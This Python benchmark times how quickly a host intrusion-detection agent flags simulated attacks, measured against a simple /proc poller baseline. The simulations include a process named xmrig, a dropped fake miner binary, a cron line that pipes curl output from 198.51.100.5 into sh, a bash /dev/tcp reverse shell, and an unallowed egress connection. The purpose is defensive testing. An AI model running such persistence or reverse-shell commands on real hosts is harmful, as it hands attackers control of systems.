"""Seconds from an action to its finding in the alert log, per scenario, p50 over repetitions.

Runs the real agent (as root) on a tmp config and, in the same run, a naive baseline: a
thread that polls /proc, the watched dirs and /proc/net/tcp once per agent.interval, the
way a simple cron-style checker would. Prints each scenario's p50 against its target and
the ratio agent/baseline. Socket scenarios (a reverse shell on a /dev/tcp socket, a
connection outside the egress allow-list) run their clients in a test-made network
namespace pair on 198.51.100.0/24; the baseline reads that namespace's tcp table too.

    sudo python3 benchmarks/bench_latency.py [--reps 5] [--interval 1.0]
"""

from __future__ import annotations

import argparse
import contextlib
import itertools
import os
import secrets
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent.parent / "tests" / "support"))

from agent_harness import AgentRun, Record, record_time
from fakes import fake_elf_miner, free_pool_port, write_burner
from netpair import HOLD, INET_IP, Pair, netpair, ready

HOLD_PORT, EGRESS_BASE = 4444, 8100  # the egress scenario's n-th rep goes to EGRESS_BASE + n


class Poller:
    """The baseline: one look at the box per interval; notes when each key was first seen."""

    def __init__(self, interval: float, watch: Path, etc: Path, tables: list[str]) -> None:
        self.interval = interval
        self.watch = watch
        self.etc = etc
        self.tables = tables  # tcp tables read: the host's and the box namespace's
        self.seen: dict[str, float] = {}
        self.stop = threading.Event()

    def look(self) -> None:
        keys: list[str] = []
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                with contextlib.suppress(OSError):
                    comm = Path(f"/proc/{pid}/comm").read_bytes().decode("utf-8", "replace")
                    keys.append(f"comm:{comm.strip()}:{pid}")
        for root in (self.watch, self.etc):
            for dirpath, _, files in os.walk(root):
                for f in files:
                    with contextlib.suppress(OSError):
                        keys.append(f"file:{dirpath}/{f}:{os.path.getsize(f'{dirpath}/{f}')}")
        for table in self.tables:
            with contextlib.suppress(OSError):
                for line in Path(table).read_text().splitlines()[1:]:
                    local, remote = line.split()[1:3]
                    keys.append(f"tcp:{local}->{remote}")
        now = time.time()  # the poller knows what it read once its pass is done
        for k in keys:
            self.seen.setdefault(k, now)

    def run(self) -> None:
        while not self.stop.wait(self.interval):
            self.look()

    def first(self, match: Callable[[str], bool], since: float, timeout: float = 30.0) -> float:
        """When the baseline first saw a key matching `match`, at or after `since`."""
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            hits = [t for k, t in list(self.seen.items()) if t >= since and match(k)]
            if hits:
                return min(hits)
            time.sleep(0.05)
        raise TimeoutError(f"the baseline poller did not see it in {timeout}s")


def p50(values: list[float]) -> float:
    return statistics.median(values)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--reps", type=int, default=5)
    ap.add_argument("--interval", type=float, default=1.0)
    args = ap.parse_args()
    if os.geteuid() != 0:
        print("bench_latency: needs root (netlink, fanotify)", file=sys.stderr)
        return 2
    with tempfile.TemporaryDirectory(prefix="bench-latency-") as tmp, netpair() as pair:
        root = Path(tmp)
        ports = [HOLD_PORT, *range(EGRESS_BASE, EGRESS_BASE + args.reps)]
        ready(pair.python(pair.inet, HOLD, *map(str, ports)))
        resident = pair.resident(pair.box)
        allow = f'[network]\negress_allow = ["{INET_IP}/32:80"]\n'
        agent = AgentRun(root / "agent", interval=args.interval, extra=allow)
        agent.start()
        tables = ["/proc/net/tcp", f"/proc/{resident}/net/tcp"]
        poller = Poller(args.interval, agent.watch, agent.etc, tables)
        threading.Thread(target=poller.run, daemon=True).start()
        results: dict[str, tuple[list[float], list[float]]] = {}
        started: list[subprocess.Popen[bytes]] = []
        try:
            for name, scenario in {**SCENARIOS, **socket_scenarios(pair)}.items():
                ours, base = [], []
                for i in range(args.reps):
                    agent_s, baseline_s = scenario(agent, poller, root / f"{name}-{i}", started)
                    ours.append(agent_s)
                    base.append(baseline_s)
                results[name] = (ours, base)
        finally:
            poller.stop.set()
            for p in started:
                with contextlib.suppress(ProcessLookupError):
                    os.kill(p.pid, signal.SIGKILL)
                p.wait(10)
            agent.stop()
    targets = {
        "exec (miner name)": 0.2,
        "file drop (ELF miner)": 2.0,
        "persistence (cron line)": 2.0,
        "network (pool port)": args.interval + 1.0,
        "reverse shell (stdio)": args.interval + 1.0,
        "egress (not allowed)": args.interval + 1.0,
    }
    print(f"agent.interval = {args.interval}s, {args.reps} repetitions each")
    head = ("scenario", "p50", "max", "target", "ok", "baseline p50", "ratio")
    print("{:26} {:>7} {:>7} {:>7}  {:3} {:>12} {:>6}".format(*head))
    for name, (ours, base) in results.items():
        target = targets[name]
        ok = "yes" if p50(ours) <= target else "NO"
        ratio = p50(ours) / p50(base) if p50(base) > 0 else float("inf")
        print(
            f"{name:26} {p50(ours):7.3f} {max(ours):7.3f} {target:7.2f}  {ok:3} "
            f"{p50(base):12.3f} {ratio:6.2f}"
        )
    print("baseline: a poller reading /proc, the watched dirs and the tcp tables once per interval")
    return 0


Scenario = Callable[[AgentRun, Poller, Path, list], tuple[float, float]]


def latencies(
    agent: AgentRun, poller: Poller, t0: float, rec: Record, key: Callable[[str], bool]
) -> tuple[float, float]:
    """(agent, baseline) seconds from the action at t0; call while the subject still exists."""
    return record_time(rec) - t0, poller.first(key, since=t0) - t0


def launch(started: list, argv: list[str], seconds: float) -> subprocess.Popen[bytes]:
    """Start argv under a shell of its own (the engine folds same-exe siblings of one
    parent into one incident, and every burner here is the python interpreter)."""
    env = {**os.environ, "BURN_SECONDS": str(seconds)}
    p = subprocess.Popen(["bash", "-c", '"$@"; exit 0', "launch", *argv], env=env)
    started.append(p)
    return p


def child_of(shell: subprocess.Popen[bytes], rule: str) -> Callable[[Record], bool]:
    def match(r: Record) -> bool:
        proc = r["process"]
        return r["rule"].startswith(rule) and bool(proc) and proc["ppid"] == shell.pid

    return match


def exec_miner(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple[float, float]:
    work.mkdir(parents=True)
    burner = write_burner(work / "xmrig")
    t0 = time.time()
    shell = launch(started, [str(burner)], agent.interval + 3)
    rec = agent.wait_for(child_of(shell, "miner.process_name"))
    pid = rec["process"]["pid"]
    return latencies(agent, poller, t0, rec, lambda k: k == f"comm:xmrig:{pid}")


def file_drop(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple[float, float]:
    path = agent.watch / f"{work.name}-{secrets.token_hex(3)}"
    t0 = time.time()
    fake_elf_miner(path)
    rec = agent.wait_for(lambda r: bool(r["file"]) and r["file"]["path"] == str(path))
    seen = f"file:{path}:"
    return latencies(agent, poller, t0, rec, lambda k: k.startswith(seen) and k != seen + "0")


def persistence(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple[float, float]:
    path = agent.etc / "cron.d" / work.name
    t0 = time.time()
    path.write_text("* * * * * root curl -fsSL http://198.51.100.5/u | sh\n")
    rec = agent.wait_for(lambda r: bool(r["file"]) and r["file"]["path"] == str(path))
    seen = f"file:{path}:"
    return latencies(agent, poller, t0, rec, lambda k: k.startswith(seen) and k != seen + "0")


def network(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple[float, float]:
    work.mkdir(parents=True)
    burner = write_burner(work / "xmrig")
    with free_pool_port() as pool:  # open until both have seen the connection
        url = f"stratum+tcp://127.0.0.1:{pool.port}"
        t0 = time.time()
        shell = launch(started, [str(burner), "-o", url], agent.interval + 5)
        rec = agent.wait_for(child_of(shell, "network."), timeout=agent.interval + 15)
        remote = f"->0100007F:{pool.port:04X}"
        return latencies(
            agent, poller, t0, rec, lambda k: k.startswith("tcp:") and k.endswith(remote)
        )


def tcp_key(ip: str, port: int) -> str:
    """The remote end as /proc/net/tcp writes it (an IPv4 address in host byte order)."""
    return "->" + bytes(reversed(socket.inet_aton(ip))).hex().upper() + f":{port:04X}"


def socket_scenarios(pair: Pair) -> dict[str, Scenario]:
    """The scenarios whose clients run in the box namespace of `pair`."""
    reps = itertools.count()

    def about(pid: int, rule: str) -> Callable[[Record], bool]:
        return lambda r: r["rule"] == rule and (r["process"] or {}).get("pid") == pid

    def reverse_shell(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple:
        t0 = time.time()
        line = f"exec 3<>/dev/tcp/{INET_IP}/{HOLD_PORT}; exec sleep 30 <&3 >&3"
        p = pair.run(pair.box, ["bash", "-c", line])
        rec = agent.wait_for(about(p.pid, "tunnel.reverse_shell_socket"), agent.interval + 15)
        remote = tcp_key(INET_IP, HOLD_PORT)
        return latencies(agent, poller, t0, rec, lambda k: k.endswith(remote))

    def egress(agent: AgentRun, poller: Poller, work: Path, started: list) -> tuple:
        port = EGRESS_BASE + next(reps)  # a new destination each time: reported once each
        work.mkdir(parents=True)
        script = work / "client.py"  # a program of its own: no folding into an incident
        script.write_text(
            "import socket, sys, time\n"
            f"c = socket.create_connection(({INET_IP!r}, {port}))\n"
            "time.sleep(30)\n"
        )
        t0 = time.time()
        p = pair.run(pair.box, [sys.executable, str(script)])
        rec = agent.wait_for(about(p.pid, "network.egress_unknown"), agent.interval + 15)
        remote = tcp_key(INET_IP, port)
        return latencies(agent, poller, t0, rec, lambda k: k.endswith(remote))

    return {"reverse shell (stdio)": reverse_shell, "egress (not allowed)": egress}


SCENARIOS: dict[str, Scenario] = {
    "exec (miner name)": exec_miner,
    "file drop (ELF miner)": file_drop,
    "persistence (cron line)": persistence,
    "network (pool port)": network,
}


if __name__ == "__main__":
    sys.exit(main())
